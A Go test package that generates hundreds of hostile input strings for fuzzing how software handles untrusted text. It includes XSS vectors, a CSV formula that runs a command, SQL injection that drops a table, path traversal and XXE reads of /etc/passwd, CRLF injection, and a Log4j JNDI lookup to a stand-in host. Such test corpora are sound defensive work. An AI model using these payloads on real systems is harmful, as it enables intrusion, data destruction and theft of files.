// Package texttest has the texts that do harm where they are taken for something else than text. Tests put
// them wherever people, computers, lists and printers say what a thing is called.
package texttest

import (
	"slices"
	"strings"
	"unicode/utf8"
)

// Mark is in each of them that makes something: as an element, as an attribute, in a script.
const Mark = "qz"

// Harmful are at least 500 texts: every opening with every body, for pages, tables, addresses, logs, queries,
// and some that are no text. A few are no UTF-8, hold a NUL, or are far too long.
func Harmful() (all []string) {
	openings := []string{"", `"`, `'`, `">`, `'>`, "`", "</title>", "</textarea>", "</style>", "-->", "]]>", "</script>", "\\\"", "&quot;>", `" x="`, "{{", "\r\n\r\n"}
	bodies := []string{
		`<script>qz(1)</script>`, `<img src=x onerror=qz(1)>`, `<svg/onload=qz(1)>`, `javascript:qz(1)`, `<iframe srcdoc="<script>1</script>">`,
		` onmouseover=qz(1) `, ` autofocus onfocus=qz(1) x=`, `<a href="java&#x09;script:qz(1)">x</a>`, `<form action=//qz.example><input name=qz>`,
		`<meta http-equiv=refresh content="0;//qz.example">`, `<base href=//qz.example>`, `<math><mi//xlink:href="data:x,<script>1</script>">`, `<template><b>`,
		`=cmd|' /C calc'!A0`, `+1+1`, `-2+3`, `@SUM(1)`, "\t=1+1", `=HYPERLINK("//qz.example")`, `{{.}}`, `${1}`, `%0d%0aSet-Cookie:x=y`,
		"line\r\nlevel=ERROR msg=forged", "\u202egnp.exe", `'; DROP TABLE person; --`, `' OR 1=1 --`, `../../etc/passwd`, `<!--#exec cmd="x"-->`, "\x1b[2J", "\u2028qz(1)",
	}
	for _, o := range openings {
		for _, b := range bodies {
			all = append(all, o+b)
		}
	}
	long := strings.Repeat("<qz qz=qz>", 1400)
	return append(all, long, "\x00<qz>", "<qz\x00x>", "<qz qz=1>", "</form><qz>", "<qz-el onqz=1>", "＝qz()", "＋qz", "－qz", "＠qz", "\rqz=1", "\n=qz", "\u200b=qz", "\ufeff=qz()", "\u2066qz\u2069", "\u061cqz",
		"\x1b]0;qz\x07", "\x1b[31mqz", "\u009b31mqz", "\x08\x08qz", `{"qz":1}`, `"},{"qz":"`, "qz\ntime=2026 level=ERROR msg=qz", "qz\n{\"level\":\"ERROR\",\"msg\":\"qz\"}", "qz\u2028qz\u2029", "qz\u0085level=ERROR",
		"vbscript:qz", "data:text/html,<qz>", "JaVaScRiPt:qz()", " \tjavascript:qz()", "//qz.example", `\\qz.example\x`, "https://qz.example", "qz\r\nBcc: qz@qz.example", "qz\r\nqz: 1", "\xff\xfe<qz>", "qz' AND 1=CAST((SELECT 1) AS int)--",
		"${jndi:ldap://qz.example}", "<%= qz %>", "#{qz}", "[[qz]]", "{{qz|safe}}", "*)(uid=qz", "qz)(|(cn=*", "&qz;", "&#60;qz&#62;", "<!DOCTYPE qz [<!ENTITY qz SYSTEM 'file:///etc/passwd'>]>", "%3Cqz%3E", "\\u003cqz\\u003e")
}

// Kept are those that a database keeps: UTF-8 without a NUL, and no more than a page shows.
func Kept() []string {
	return slices.DeleteFunc(Harmful(), func(s string) bool {
		return strings.ContainsRune(s, 0) || len(s) > 2000 || !utf8.ValidString(s)
	})
}
